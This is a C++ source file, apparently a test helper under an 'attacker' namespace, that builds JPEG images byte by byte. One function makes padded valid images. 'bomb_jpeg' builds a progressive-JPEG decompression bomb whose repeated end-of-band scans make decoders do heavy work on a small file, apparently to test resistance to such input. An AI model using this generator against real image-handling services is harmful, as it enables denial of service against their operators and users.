#include "tests/netns/attacker/jpeg.h"

#include <algorithm>
#include <initializer_list>

namespace interneuron::attacker {
namespace {

// Markers of ITU-T T.81, table B.1.
constexpr std::uint8_t kBaseline = 0xC0;
constexpr std::uint8_t kProgressive = 0xC2;
constexpr std::uint8_t kHuffman = 0xC4;
constexpr std::uint8_t kStart = 0xD8;
constexpr std::uint8_t kEnd = 0xD9;
constexpr std::uint8_t kScan = 0xDA;
constexpr std::uint8_t kQuantisation = 0xDB;
constexpr std::uint8_t kComment = 0xFE;
// The classes of Huffman tables, in the upper half of a byte.
constexpr std::uint8_t kDc = 0x00;
constexpr std::uint8_t kAc = 0x10;
// A run of up to 32,767 blocks without coefficients: 14 bits follow, and 2^14 is added to them.
constexpr std::uint8_t kEndOfBand14 = 0xE0;
constexpr std::uint32_t kRunBits = 14;
constexpr std::uint32_t kLongestRun = 32'767;
constexpr std::uint32_t kShortestRun = 1U << kRunBits;

class File {
 public:
  File() { marker(kStart); }

  void put(std::initializer_list<int> bytes) {
    for (const int byte : bytes) out_.push_back(static_cast<std::byte>(byte));
  }
  void put16(std::size_t value) {
    put({static_cast<int>(value >> 8 & 0xFF), static_cast<int>(value & 0xFF)});
  }
  void marker(std::uint8_t kind) { put({0xFF, kind}); }
  void segment(std::uint8_t kind, std::size_t bytes) {
    marker(kind);
    put16(bytes + 2);
  }
  // One component, its quantisation table, and a table of one code, the single bit 0.
  void head(std::uint8_t process, std::uint16_t width, std::uint16_t height) {
    segment(kQuantisation, 65);
    put({0});
    out_.insert(out_.end(), 64, std::byte{1});
    segment(process, 9);
    put({8});
    put16(height);
    put16(width);
    put({1, 1, 0x11, 0});
  }
  void huffman(std::uint8_t which, std::uint8_t symbol) {
    segment(kHuffman, 18);
    put({which, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, symbol});
  }
  // The coefficients `first` to `last` of the one component.
  void scan(int first, int last) {
    segment(kScan, 6);
    put({1, 1, 0, first, last, 0});
  }
  void bit(std::uint32_t value) {
    bits_ = static_cast<std::uint8_t>(2U * bits_ + (value & 1));
    if (++bit_count_ == 8) flush();
  }
  void bits(std::uint32_t value, std::uint32_t count) {
    while (count > 0) bit(value >> --count);
  }
  // The rest of the last byte is ones.
  void end_scan() {
    while (bit_count_ > 0) bit(1);
  }
  void zeros(std::size_t bytes) { out_.insert(out_.end(), bytes, std::byte{0}); }
  std::size_t size() const { return out_.size(); }
  Bytes finish() {
    marker(kEnd);
    return std::move(out_);
  }

 private:
  void flush() {
    put({bits_});
    // A byte that looks like the begin of a marker is followed by a zero.
    if (bits_ == 0xFF) put({0});
    bits_ = 0;
    bit_count_ = 0;
  }
  Bytes out_;
  std::uint8_t bits_ = 0;
  int bit_count_ = 0;
};

std::size_t blocks(std::uint16_t width, std::uint16_t height) {
  return std::size_t{width} / 8 * (height / 8);
}

}  // namespace

Bytes flat_jpeg(std::uint16_t width, std::uint16_t height, std::size_t least) {
  File file;
  file.head(kBaseline, width, height);
  file.huffman(kDc, 0);
  file.huffman(kAc, 0);
  const std::size_t data = 2 * blocks(width, height);
  const std::size_t total = file.size() + 10 + (data + 7) / 8 + 2;
  if (total + 4 < least) {
    file.segment(kComment, least - total - 4);
    file.zeros(least - total - 4);
  }
  file.scan(0, 63);
  file.zeros(data / 8);
  for (std::size_t i = 0; i < data % 8; ++i) file.bit(0);
  file.end_scan();
  return file.finish();
}

Bytes bomb_jpeg(std::uint16_t width, std::uint16_t height, std::size_t bytes) {
  // A scan and the end of the file: 10 bytes before its runs, each of 15 bits.
  const std::size_t all = blocks(width, height);
  const std::size_t runs = all / kLongestRun + 1;
  const std::size_t scan_bytes = 10 + 4 * runs;
  File file;
  file.head(kProgressive, width, height);
  file.huffman(kAc, kEndOfBand14);
  while (file.size() + scan_bytes + 2 <= bytes) {
    file.scan(1, 63);
    for (std::size_t left = all; left > 0;) {
      const auto run = static_cast<std::uint32_t>(
          std::clamp<std::size_t>((left + runs - 1) / runs, kShortestRun, kLongestRun));
      file.bit(0);
      file.bits(run - kShortestRun, kRunBits);
      left -= std::min<std::size_t>(left, run);
    }
    file.end_scan();
  }
  return file.finish();
}

}  // namespace interneuron::attacker
